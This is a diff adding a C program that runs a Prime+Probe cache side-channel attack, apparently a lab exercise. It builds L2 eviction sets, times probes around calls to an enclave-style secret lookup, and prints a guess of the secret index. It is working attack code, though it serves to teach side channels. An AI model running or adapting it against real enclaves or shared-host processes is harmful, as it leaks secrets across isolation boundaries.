@@ -0,0 +1,145 @@
+/* utility headers */
+#include "debug.h"
+#include "cacheutils.h"
+#include "pp.h"
+#include "victim.h"
+
+#define NUM_SAMPLES         1000
+#define NUM_SLOTS           10
+#define SLOT_SIZE           64
+#define NUM_IDLE            16
+#define MAX_COLOURS         256
+
+evset_t colour_sets[MAX_COLOURS];
+evset_t sets[NUM_SLOTS*MAX_COLOURS];
+int lat[NUM_SLOTS*MAX_COLOURS];
+int idle[NUM_SLOTS*MAX_COLOURS];
+int hits[NUM_SLOTS*MAX_COLOURS];
+int idle_hits[NUM_SLOTS*MAX_COLOURS];
+cache_calib_t calib;
+
+/* same call (and stack footprint) as the victim, minus the lookup */
+void no_victim(void)
+{
+}
+
+void prime_probe(int col, void (*victim)(void))
+{
+    int s;
+
+    // prime the eviction sets of this colour -- Step 1
+    for (s=col*NUM_SLOTS; s < (col+1)*NUM_SLOTS; s++)
+        pp_prime(&sets[s]);
+
+    // lookup the secret(victim) -- Step 2
+    victim();
+
+    // probe them and look for evictions -- Step 3
+    pp_probe_batch(&sets[col*NUM_SLOTS], &lat[col*NUM_SLOTS], NUM_SLOTS);
+}
+
+/*
+ * One colour at a time: priming every set before a single victim call would
+ * leave a window of ~1M cycles in which other activity on the (shared) L2
+ * evicts our lines anyway. Rounds without the victim are interleaved to
+ * count those background evictions under the same conditions.
+ */
+void sample(int ncol, int margin)
+{
+    int i, s, col, j, v;
+
+    for (i=0; i < NUM_SAMPLES; i++)
+        for (col=0; col < ncol; col++)
+            for (j=0; j < 2; j++)
+            {
+                /* alternate which of the two goes first */
+                v = j ^ (i & 1);
+                prime_probe(col, v ? ecall_secret_lookup : no_victim);
+                for (s=col*NUM_SLOTS; s < (col+1)*NUM_SLOTS; s++)
+                    (v ? hits : idle_hits)[s] += lat[s] > idle[s] + margin;
+            }
+}
+
+int main( int argc, char **argv )
+{
+    int ways = pp_l2_ways(), colours = pp_l2_colours();
+    int pool_pages, ncol, nsets, margin, best, score, best_score, k, col, s, i;
+    int use_phys = (argc > 1) && !strcmp(argv[1], "-p");
+    uint64_t tsc1, tsc2;
+    char *pool;
+
+    /* ---------------------------------------------------------------------- */
+    /* about twice the lines needed to cover every colour with 'ways' lines */
+    ASSERT(colours <= MAX_COLOURS);
+    pool_pages = 2*ways*colours;
+    info("L2: %d ways, %d page colours; allocating %d page pool..",
+         ways, colours, pool_pages);
+    pool = pp_alloc_pool(pool_pages);
+
+    pp_calibrate(pool, pool_pages, &calib);
+    info("L2 hit=%d evicted=%d threshold=%d (error rate %.4f)",
+         calib.hit_med, calib.miss_med, calib.threshold, calib.error_rate);
+
+    info_event("building eviction sets");
+    tsc1 = rdtsc_begin();
+    ncol = use_phys ? pp_build_evsets_phys(pool, pool_pages, ways, colour_sets, colours) : 0;
+    if (use_phys && !ncol)
+        info("WARNING: no physical addresses (not root?); timing them instead");
+    if (!ncol)
+        ncol = pp_build_evsets(pool, pool_pages, ways, colour_sets, colours);
+    tsc2 = rdtsc_end();
+    info("built %d/%d eviction sets (%d ways) in %lu cycles",
+         ncol, colours, ways, tsc2-tsc1);
+    ASSERT(ncol > 0);
+
+    /* a victim slot at line offset k can be in any colour: watch them all */
+    nsets = NUM_SLOTS*ncol;
+    for (col=0; col < ncol; col++)
+        for (k=0; k < NUM_SLOTS; k++)
+            pp_evset_shift(&colour_sets[col], &sets[col*NUM_SLOTS+k], k*SLOT_SIZE);
+
+    /* per-set baseline without victim activity (includes our own noise) */
+    for (s=0; s < nsets; s++)
+        idle[s] = 1 << 30;
+    for (i=0; i < NUM_IDLE; i++)
+    {
+        for (col=0; col < ncol; col++)
+            prime_probe(col, no_victim);
+        for (s=0; s < nsets; s++)
+            idle[s] = (lat[s] < idle[s]) ? lat[s] : idle[s];
+    }
+    margin = (calib.miss_med - calib.hit_med) / 2;
+
+    /* ---------------------------------------------------------------------- */
+    info_event("prime+probe attack");
+
+    tsc1 = rdtsc_begin();
+    sample(ncol, margin);
+    tsc2 = rdtsc_end();
+    info("%d rounds (+ idle) over %d sets in %lu cycles (%lu cycles/set)", NUM_SAMPLES,
+         nsets, tsc2-tsc1, (tsc2-tsc1) / ((uint64_t) NUM_SAMPLES*nsets));
+
+    for (k=0, best=0, best_score=-NUM_SAMPLES; k < NUM_SLOTS; k++)
+    {
+        /* the victim table sits in one page, so only its colour lights up */
+        for (col=0, score=-NUM_SAMPLES; col < ncol; col++)
+        {
+            s = col*NUM_SLOTS + k;
+            score = (hits[s] - idle_hits[s] > score) ? hits[s] - idle_hits[s] : score;
+        }
+
+        printf("Slot %3d (max evictions over colours, minus idle): %d/%d\n",
+               k, score, NUM_SAMPLES);
+        if (score > best_score)
+        {
+            best = k;
+            best_score = score;
+        }
+    }
+    info("secret_idx guess = %d", best);
+
+    /* ---------------------------------------------------------------------- */
+
+    info("all is well; exiting..");
+	return 0;
+}